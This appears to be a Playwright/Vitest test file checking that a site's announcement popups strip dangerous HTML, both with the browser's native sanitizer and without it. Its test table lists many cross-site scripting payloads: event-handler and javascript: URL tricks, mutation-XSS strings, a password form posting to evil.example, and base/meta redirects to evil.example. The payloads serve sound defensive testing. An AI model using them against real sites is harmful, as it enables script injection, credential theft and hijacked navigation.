import type { Page } from 'playwright';
import { describe, expect, test } from 'vitest';
import type { Announcements } from '../../../src/contract/announcements/endpoints.ts';
import { locale } from '../texts.ts';
import { visitors } from '../visit.ts';

/** What an operator's own gateway may send as HTML, and what a page makes of it. */
const enter = visitors();
const { t } = await locale('lotus', 'EN');

/** A text that came, and what of it may show; all of it where nothing else stands. */
const TEXTS: readonly (readonly [came: string, shown?: string])[] = [
  ['<h2>Terms</h2><p>You are <strong>18</strong> or <em>older</em>.</p><ul><li>one</li></ul>'],
  ['<table><caption>Rates</caption><tbody><tr><th scope="row">A</th><td colspan="2">1</td></tr></tbody></table>'],
  ['<p dir="rtl" lang="ar">مرحبا</p>'],
  ['<a href="/en/help/#term">terms</a><a href="mailto:a@x.example">write</a>'],
  [
    '<a href="https://x.example/" target="_self" rel="opener">x</a>',
    '<a href="https://x.example/" target="_blank" rel="noopener noreferrer">x</a>',
  ],
  ['<div><span class="big" style="color:red">kept</span></div>', 'kept'],
  [
    '<p id="facts" class="x" style="position:fixed" onclick="broken()" data-open="login" aria-label="x">p</p>',
    '<p>p</p>',
  ],
  ['<script>broken()</script>after', 'after'],
  ['<img src=nowhere onerror=broken()>', '<img src="nowhere">'],
  ['<img/src/onerror=broken()>', '<img src="">'],
  ['<svg onload=broken()><script>broken()</script></svg>', ''],
  ['<svg><a href="javascript:broken()"><text>x</text></a></svg>', ''],
  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=broken()&gt;">', ''],
  ['<iframe src="javascript:broken()"></iframe><object data="javascript:broken()"></object><embed src="x">', ''],
  ['<iframe srcdoc="<script>parent.broken()</script>"></iframe>', ''],
  ['<a href="javascript:broken()">x</a>', '<a>x</a>'],
  ['<a href="JaVaScRiPt&#58;broken()">x</a>', '<a>x</a>'],
  ['<a href=" \u0001java\tscript:broken()">x</a>', '<a>x</a>'],
  ['<a href="data:text/html,<script>broken()</script>">x</a>', '<a>x</a>'],
  ['<a href="vbscript:broken()">x</a><a href="app:open">y</a>', '<a>x</a><a>y</a>'],
  ['<img alt="a" src="data:image/svg+xml,<svg onload=broken()>">', '<img alt="a">'],
  ['<form action="https://evil.example"><input name="password"><button>Send</button></form>', ''],
  ['<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">', ''],
  ['<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">', ''],
  ['<template><script>broken()</script></template><noscript><p title="</noscript><img src=x onerror=broken()>">', ''],
  ['<video src=x onerror=broken()></video><audio src=x></audio><details open ontoggle=broken()>x</details>', ''],
  ['<x-part onclick=broken()>x</x-part><custom>y</custom>', ''],
  ['<!-- <img src=x onerror=broken()> --><p>p</p><?broken now?>', '<p>p</p>'],
  ['<p><b><i>never closed', '<p><b><i>never closed</i></b></p>'],
];

const begun = (id: number) => `<p>No. ${id}</p>`;

/** Has the gateway greet with these texts, one popup each, and reads what the page shows of them. */
async function shownOf(page: Page, texts: readonly string[]): Promise<readonly string[]> {
  const popup = texts.map((content, id) => ({
    id,
    execution: 'B' as const,
    title: `Text ${id}`,
    content: begun(id) + content,
    promotionType: null,
  }));
  const value: Announcements = { banners: [], player: [], popup, promotion: [] };
  await page.route('**/MCSFE_getListAnnouncements?*', (route) => route.fulfill({ json: { success: true, value } }));
  await page.goto(new URL('/en/', page.url()).href);
  const dialog = page.getByRole('dialog');
  const shown: string[] = [];
  for (const id of texts.keys()) {
    if (id > 0) await dialog.getByRole('button', { name: t('announcements.next'), exact: true }).click();
    const html = await dialog.getByText(`No. ${id}`, { exact: true }).locator('..').innerHTML();
    shown.push(html.replace(begun(id), ''));
  }
  return shown;
}

describe.each([
  { browser: 'a browser with a sanitizer', own: true },
  { browser: 'a browser without one', own: false },
])('HTML of a gateway that cleans nothing, in $browser', ({ own }) => {
  test('keeps structure, links and pictures, and loses whatever could act', async () => {
    const { page, go, expectError } = await enter();
    // The picture that stays of an attack is not there.
    expectError(/nowhere/);
    // While it reads, a browser tells what the page's policy would not have let run anyway.
    expectError(/violates the following Content Security Policy/);
    const purifiers: string[] = [];
    page.on('request', (request) => purifiers.push(...(request.url().match(/purify/) ?? [])));
    if (!own) await page.addInitScript(() => Reflect.deleteProperty(Element.prototype, 'setHTML'));
    await go('/en/help/');
    const shown = await shownOf(
      page,
      TEXTS.map(([came]) => came),
    );
    expect(TEXTS.map(([came], id) => [came, shown[id]])).toEqual(TEXTS.map(([came, is = came]) => [came, is]));
    expect(purifiers).toHaveLength(own ? 0 : 1);
  });
});
